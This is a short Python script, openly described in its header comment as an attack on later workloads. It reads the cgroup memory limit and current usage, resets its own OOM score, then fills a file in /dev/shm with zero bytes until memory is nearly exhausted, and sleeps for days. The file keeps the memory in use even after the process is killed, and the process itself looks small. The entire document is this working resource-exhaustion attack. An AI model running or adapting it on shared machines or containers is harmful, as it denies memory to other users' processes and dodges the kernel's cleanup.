# Attacks what comes after: fills the memory to the brim with files that no kill frees, and looks small itself.
import sys
import time
from pathlib import Path

GROUPS = Path("/sys/fs/cgroup")
first = GROUPS / "memory"
folder = first if first.is_dir() else GROUPS
most = int(next(path for path in (folder / "memory.limit_in_bytes", folder / "memory.max") if path.exists()).read_text())
used = next(path for path in (folder / "memory.usage_in_bytes", folder / "memory.current") if path.exists())

try:
    Path("/proc/self/oom_score_adj").write_text("0")
except OSError:
    pass
with open("/dev/shm/ballast", "wb", buffering=0) as ballast:
    while int(used.read_text()) < most - int(sys.argv[1]):
        ballast.write(bytes(16384))
time.sleep(1e6)
